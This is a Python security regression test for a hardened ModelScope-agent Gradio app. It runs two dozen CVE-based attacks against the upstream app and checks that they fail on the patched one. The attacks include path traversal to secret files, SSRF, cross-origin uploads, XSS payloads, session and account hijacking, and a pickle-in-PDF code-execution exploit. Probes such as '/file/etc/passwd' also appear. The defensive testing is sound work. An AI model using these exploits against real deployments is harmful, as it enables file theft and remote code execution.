"""What succeeds against upstream as it is fails here, with an account: the same requests.

docs/security.md lists the advisories. Each attack gets what it is after on a plain start of
upstream's app.py from the same wheels, with the edits of the original guide; here, behind the
login, its sender is `bob` and the one he is after is `ann`.
"""

import contextlib
import gzip
import http.server
import json
import pickle
import secrets
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest

from tests.agentfabric.attacker import Attacker, Refused, form
from tests.agentfabric.conftest import MODEL
from tests.agentfabric.stack import Stack, free_port, wait
from tests.e2e.bundle import dist

_PRISTINE = Path(__file__).with_name("pristine.py")
_PASSWORDS = {"ann": "one", "bob": "two"}
_PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154"
    "78da63606060000000040001f61738550000000049454e44ae426082"
)


@dataclass
class Target:
    """A served page.

    Attributes:
        attacker: Sends requests, with an account where there is a login.
        victim: Somebody else, with another.
        name: The folder of the victim's agents.
        secret: A file of the host that the page has no use for; what it holds is the prize.
        room: A folder that the page has no business in.
    """

    attacker: Attacker
    victim: Attacker
    name: str
    room: Path
    content: str = field(default_factory=secrets.token_hex)

    @property
    def secret(self) -> str:
        path = self.room / "secret"
        path.write_text(self.content)
        return str(path)


@contextlib.contextmanager
def serve_pristine(stack: Stack, page: str, room: Path) -> Iterator[Target]:
    """Upstream's page, as plain as it comes."""
    (room / "work").mkdir()
    port = free_port()
    environ = {
        **stack.environ,
        "PEX_INTERPRETER": "1",
        "GRADIO_ANALYTICS_ENABLED": "False",
        "GRADIO_SERVER_PORT": str(port),
        "GRADIO_TEMP_DIR": str(room / "gradio"),
        "MODELSCOPE_CACHE": str(room / "modelscope"),
        "CODE_INTERPRETER_WORK_DIR": str(room / "code_interpreter"),
        "LOG_ENABLE_FILE": "off",
        "OPENAI_API_KEY": "EMPTY",
    }
    source = stack.pex / "upstream" / "modelscope_agent"
    embedding = dist() / "models.minilm" / "minilm"
    address = f"http://127.0.0.1:{port}/"
    with (
        (room / "log").open("w") as log,
        subprocess.Popen(
            stack.command(_PRISTINE, page, source, room / "state", embedding),
            cwd=room / "work",
            env=environ,
            stdin=subprocess.DEVNULL,
            stdout=log,
            stderr=log,
        ) as process,
    ):
        try:
            wait(process, address, room / "log")
            yield Target(Attacker(address), Attacker(address), "ann", room)
        finally:
            process.kill()


@contextlib.contextmanager
def serve_ours(stack: Stack, which: str, room: Path) -> Iterator[Target]:
    """Our page, with two accounts."""
    passwords = room / "passwords"
    passwords.write_text("".join(f"{name}:{word}\n" for name, word in _PASSWORDS.items()))
    environ = {
        "STATE_DIR": str(room / "state"),
        "EMBEDDING_DIR": str(dist() / "models.minilm" / "minilm"),
        "LLM_URL": "http://127.0.0.1:9/v1",
        "LLM_MODEL": MODEL,
        "PASSWORD_FILE": str(passwords),
    }
    with stack.serve(which, room / "log", **environ) as address:
        ann, bob = (Attacker(address).log_in(name, _PASSWORDS[name]) for name in ("ann", "bob"))
        yield Target(bob, ann, "ann", room)


@pytest.fixture(scope="module")
def pristine(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    with serve_pristine(stack, "app.py", tmp_path_factory.mktemp("pristine")) as target:
        yield target


@pytest.fixture(scope="module")
def ours(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    with serve_ours(stack, "app", tmp_path_factory.mktemp("ours")) as target:
        yield target


def begin(who: Attacker, name: str = "") -> list[dict[str, Any]]:
    """Opens the page: what the server tells of the agent."""
    return who.event("init_all", [name, None])


def configure(who: Attacker, **values: Any) -> list[dict[str, Any]]:
    """Presses 更新配置 with these values in the form."""
    given: dict[str, object] = {
        "uuid_str": "",
        "avatar": {"path": who.upload("p.png", _PICTURE)},
        "name": "",
        "description": "",
        "instructions": "",
        "model": MODEL,
        "language": "zh",
        "suggestions": {"headers": ["x"], "data": [["hello"]], "metadata": None},
        "knowledge": [],
        "capabilities": [],
        "schema": "",
        "auth": "None",
        "apikey": "",
        "apikey_type": None,
        "privacy": "",
        "state": None,
    }
    return who.event("process_configuration", list({**given, **values}.values()))


def chat(who: Attacker, shown: list[Any], files: list[Any]) -> list[dict[str, Any]]:
    """Asks a question in the preview."""
    question = {"text": "hello", "files": files}
    return who.event("preview_send_message", [shown, question, None, ""])


def named(messages: object, file_name: str) -> set[str]:
    """The paths in an answer whose last part is ``file_name``."""
    text = json.dumps(messages, ensure_ascii=False)
    parts = text.replace("(", '"').replace(")", '"').replace("/file=", '"').split('"')
    return {part for part in parts if part.endswith("/" + file_name)}


def leaks(target: Target, messages: object) -> bool:
    """Whether the attacker can read the secret at one of the paths that he was told."""
    paths = named(messages, "secret")
    return any(target.attacker.read(path).text == target.content for path in paths)


def path_with_dots(target: Target) -> bool:
    """CVE-2023-51449, CVE-2024-47164: an upload's folder and `..` lead to any file."""
    folder = target.attacker.upload("a.txt", b"a").rpartition("/")[0]
    return target.attacker.get(f"/file={folder}{'/..' * 20}{target.secret}").text == target.content


def component_server(target: Target) -> bool:
    """CVE-2024-1561, CVE-2024-34511: any method of any component can be called."""
    body = {
        "session_hash": "x",
        "component_id": 1,
        "fn_name": "move_resource_to_block_cache",
        "data": target.secret,
    }
    answer = target.attacker.post("/component_server", body)
    return answer.status == 200 and leaks(target, answer.json())


def path_as_knowledge(target: Target) -> bool:
    """CVE-2024-0964, CVE-2024-1728: a file that is named counts as one that was uploaded."""
    begin(target.attacker)
    configure(target.attacker, knowledge=[{"path": target.secret}])
    return leaks(target, begin(target.attacker))


def path_through_run(target: Target) -> bool:
    """The same by gradio's other address for events."""
    number, _ = target.attacker.function("create_send_message")
    shown = [[{"text": f"[x]({target.secret})", "files": []}, None]]
    data = [shown, {"text": "hello", "files": []}, None, ""]
    begin(target.attacker)
    body = {"data": data, "fn_index": number, "session_hash": target.attacker.session}
    answer = target.attacker.post("/run/predict", body)
    return answer.status == 200 and leaks(target, answer.json())


def link_in_a_chat(target: Target) -> bool:
    """As CVE-2024-47868: a link in a chat makes the server copy the file that it leads to."""
    begin(target.attacker)
    shown = [[{"text": f"[x]({target.secret})", "files": []}, None]]
    question = {"text": "hello", "files": []}
    return leaks(target, target.attacker.event("create_send_message", [shown, question, None, ""]))


def file_of_a_question(target: Target) -> bool:
    """As CVE-2024-0964: ModelScope's component takes a file's path as text, past gradio."""
    begin(target.attacker)
    return leaks(target, chat(target.attacker, [], [target.secret]))


def address_as_a_file(target: Target) -> bool:
    """CVE-2024-4325, CVE-2024-47167, CVE-2024-48052: the server fetches any address."""
    begin(target.attacker)
    with listener() as (address, asked):
        chat(target.attacker, [], [{"path": f"{address}/inside"}])
    return bool(asked)


def address_of_an_agent(target: Target) -> bool:
    """Upstream's import of an agent fetches any address, and unpacks what comes."""
    begin(target.attacker)
    with listener() as (address, asked):
        target.attacker.event("import_space", [f"{address}/inside.zip", "", None])
    return bool(asked)


def redirect(target: Target) -> bool:
    """CVE-2024-4940, CVE-2024-8021: a link to the page leads elsewhere."""
    with listener() as (address, _):
        return target.attacker.get(f"/file={address}/").headers.get("location") == f"{address}/"


def address_in_a_link(target: Target) -> bool:
    """CVE-2024-1183: the server asks whether there is something at an address."""
    with listener() as (address, asked):
        target.attacker.get(f"/file={address}/inside")
    return bool(asked)


def upload_by_another_page(target: Target) -> bool:
    """CVE-2024-1727: any page makes the browser of somebody who is logged in upload files."""
    with contextlib.suppress(Refused):
        path = target.victim.upload("evil.html", b"<script>", origin="http://evil.example")
        return target.victim.read(path).status == 200
    return False


def event_by_a_link(target: Target) -> bool:
    """As CVE-2024-1727: an event with its data in an address, which any page can link to."""
    number, _ = target.victim.function("change_lang")
    asked = {"fn_index": number, "session_hash": "x", "data": '["en"]'}
    return "process_completed" in target.victim.get(f"/queue/join?{urlencode(asked)}").text


def answer_for_another_page(target: Target) -> bool:
    """CVE-2024-47084, CVE-2024-47165, CVE-2025-5320: other pages may read what the page answers."""
    headers = target.victim.get("/", origin="http://evil.example").headers
    return headers.get("access-control-allow-origin") in ("*", "http://evil.example")


def source_of_a_component(target: Target) -> bool:
    """CVE-2024-47166: files beside a component's own are served."""
    number = {each["component_class_id"] for each in target.attacker.page()["components"]}
    texts = (
        target.attacker.get(f"/custom_component/{each}/../__init__.py").text for each in number
    )
    return any("import gradio" in text or "from gradio" in text for text in texts)


def address_of_the_page(target: Target) -> bool:
    """CVE-2024-47870: a header says where the page sends what its visitors type."""
    answer = target.attacker.get("/", **{"x-direct-url": "http://evil.example"})
    return '"root":"http://evil.example"' in answer.text


def script_as_an_upload(target: Target) -> bool:
    """CVE-2024-47872: an uploaded page runs scripts in the name of who opens it."""
    path = target.attacker.upload("evil.html", b"<script>alert(1)</script>")
    headers = target.attacker.read(path).headers
    held = "attachment" in headers.get("content-disposition", "")
    return headers["content-type"].startswith("text/html") and not held


def script_as_a_name(target: Target) -> bool:
    """An agent's name is put into the page as it is."""
    begin(target.attacker)
    name = f"<img src=x onerror={secrets.token_hex(4)}>"
    return name in str(configure(target.attacker, name=name)[-1]["output"])


def upload_of_somebody_else(target: Target) -> bool:
    """Uploads lie in one folder for all."""
    path = target.victim.upload("mine.txt", target.content.encode())
    return target.attacker.read(path).text == target.content


def agents_of_somebody_else(target: Target) -> bool:
    """`uuid_str`, a hidden field of the page, says whose agents they are."""
    begin(target.victim, target.name)
    begin(target.attacker, target.name)
    configure(target.attacker, uuid_str=target.name, name="owned")
    return "owned" in json.dumps(begin(target.victim, target.name))


def folder_outside_of_the_agents(target: Target) -> bool:
    """`uuid_str` is part of a path."""
    begin(target.attacker, "../../outside")
    return (target.room / "outside").exists()


def session_of_somebody_else(target: Target) -> bool:
    """With another's `session_hash` one works with that one's agents."""
    begin(target.victim, target.name)
    thief = Attacker(target.attacker.address, target.attacker.cookie, target.victim.session)
    # Fails in a session that has not opened the page.
    return bool(configure(thief)[-1]["success"])


def event_of_somebody_else(target: Target) -> bool:
    """Whoever knows an event's number gives it its data."""
    number, _ = target.victim.function("change_lang")
    taken = []

    class Victim(Attacker):
        def post(self, path: str, value: object, **headers: str) -> Any:
            answer = target.attacker.post(path, value)
            taken.append(answer.status)
            raise Refused(number)

    victim = Victim(target.victim.address, target.victim.cookie)
    with contextlib.suppress(Refused):
        victim.event("change_lang", ["en"])
    return taken == [200]


def pickle_in_a_pdf(target: Target) -> bool:
    """CVE-2025-64512: a PDF names another upload as its character map, and its code is run."""
    trace = target.room / f"ran-{secrets.token_hex(4)}"
    begin(target.attacker)
    path = target.attacker.upload("evil.pickle.gz", gzip.compress(pickle.dumps(Evil(str(trace)))))
    encoding = quote(path.removesuffix(".pickle.gz"), safe="").replace("%", "#")
    document = target.attacker.upload("evil.pdf", pdf(encoding))
    chat(target.attacker, [], [{"path": document}])
    return trace.exists()


def upload_without_a_file(target: Target) -> bool:
    """As CVE-2024-47874: fields that are no files are collected in memory."""
    body, headers = form("a.txt", b"a" * 1_000_000)
    return target.attacker.ask(
        "POST", "/upload", body.replace(b'; filename="a.txt"', b""), headers
    ).status in (200, 500)


class Evil:
    """Writes a file when it is unpickled."""

    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> Any:
        return open, (self._path, "w")


def pdf(encoding: str) -> bytes:
    """A page with a letter in a font whose character map is ``encoding``."""
    text = b"BT /F1 12 Tf 10 10 Td <0041> Tj ET"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(text), text),
        b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/%s/DescendantFonts[6 0 R]>>"
        % encoding.encode(),
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/FontDescriptor<</Type/FontDescriptor>>"
        b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>",
    ]
    body, offsets = b"%PDF-1.4\n", []
    for number, each in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    return body + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
        % (size, table, size, len(body))
    )


@contextlib.contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server inside, which nobody but the host reaches: its address, and what it was asked."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("content-length", "0")
            self.end_headers()

        do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}", asked
        finally:
            server.shutdown()


_ATTACKS: list[Callable[[Target], bool]] = [
    path_with_dots,
    component_server,
    path_as_knowledge,
    path_through_run,
    link_in_a_chat,
    file_of_a_question,
    address_as_a_file,
    address_of_an_agent,
    redirect,
    address_in_a_link,
    upload_by_another_page,
    event_by_a_link,
    answer_for_another_page,
    source_of_a_component,
    address_of_the_page,
    script_as_an_upload,
    script_as_a_name,
    upload_of_somebody_else,
    agents_of_somebody_else,
    folder_outside_of_the_agents,
    session_of_somebody_else,
    event_of_somebody_else,
    pickle_in_a_pdf,
    upload_without_a_file,
]


@pytest.mark.parametrize("attack", _ATTACKS, ids=lambda attack: attack.__name__)
def test_an_attack_that_succeeds_on_upstream_fails_here(
    attack: Callable[[Target], bool], pristine: Target, ours: Target
) -> None:
    assert attack(pristine), "no attack: it does not succeed on upstream either"
    assert not attack(ours)


def test_what_the_page_is_for_still_works(ours: Target) -> None:
    bob = ours.attacker
    begin(bob)
    done = configure(
        bob, name="desk", knowledge=[{"path": bob.upload("facts.txt", b"The desk is red.")}]
    )
    assert done[-1]["success"], done
    shown = begin(bob)
    assert "desk" in json.dumps(shown)
    paths = named(shown, "facts.txt")
    assert "The desk is red." in {bob.read(path).text for path in paths}
    question = bob.upload("question.txt", b"a")
    assert named(chat(bob, [], [{"path": question}]), "question.txt")


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/config"),
        ("GET", "/proxy=http://127.0.0.1/"),
        ("GET", "/file/etc/passwd"),
        ("GET", "/file=relative"),
        ("GET", "/stream/x/1/1"),
        ("GET", "/startup-events"),
        ("GET", "/queue/status"),
        ("GET", "/user"),
        ("GET", "/token"),
        ("GET", "/app_id"),
        ("GET", "/dev/reload"),
        ("GET", "/docs"),
        ("GET", "/openapi.json"),
        ("GET", "/monitoring"),
        ("GET", "/static/../../routes.py"),
        ("GET", "/assets/%2e%2e/index.html"),
        ("POST", "/reset"),
        ("POST", "/api/predict"),
        ("PUT", "/upload"),
        ("OPTIONS", "/upload"),
    ],
)
def test_what_the_page_does_not_ask_for_is_not_there(ours: Target, method: str, path: str) -> None:
    assert ours.attacker.ask(method, path).status == 404


def test_a_batch_does_not_make_somebody_of_nobody(ours: Target) -> None:
    """gradio gives a batch no request, which is what tells whose event it is."""
    begin(ours.attacker)
    shown = ours.attacker.event("init_all", [ours.name, None], batched=True)
    assert not (ours.room / "state" / "config" / "local_user").exists()
    assert shown[-1]["success"], shown


def test_uploads_are_bounded(ours: Target) -> None:
    headers = {"content-type": "multipart/form-data; boundary=x", "content-length": str(101 << 20)}
    assert ours.attacker.ask("POST", "/upload", b"", headers).status == 413


def file_of_a_published_agent(target: Target) -> bool:
    """What its visitors say makes the page show them the agent's own files, and the host's."""
    agent = target.room / "state" / "config" / "local_user" / "secret"
    agent.write_text(target.content)
    found = []
    for path in (str(agent), target.secret):
        question = {"text": "hello", "files": []}
        shown = [[{"text": f"[x]({path})", "files": []}, None]]
        found.append(leaks(target, target.attacker.event(None, [shown, question, None])))
        asked = {"text": "hello", "files": [path]}
        found.append(leaks(target, target.attacker.event(None, [[], asked, None])))
    assert len(set(found)) == 1, found
    return found[0]


def test_visitors_of_a_published_agent_get_none_of_its_files(stack: Stack, tmp_path: Path) -> None:
    for name in ("pristine", "ours"):
        (tmp_path / name).mkdir()
    with serve_pristine(stack, "appBot.py", tmp_path / "pristine") as target:
        assert file_of_a_published_agent(target)
    with serve_ours(stack, "bot", tmp_path / "ours") as target:
        assert not file_of_a_published_agent(target)
        mine = target.attacker.upload("mine.txt", b"mine")
        question = {"text": "hello", "files": [{"path": mine}]}
        shown = target.attacker.event(None, [[], question, None])
        assert named(shown, "mine.txt")
        assert not named(shown, "mine.txt") - {mine}
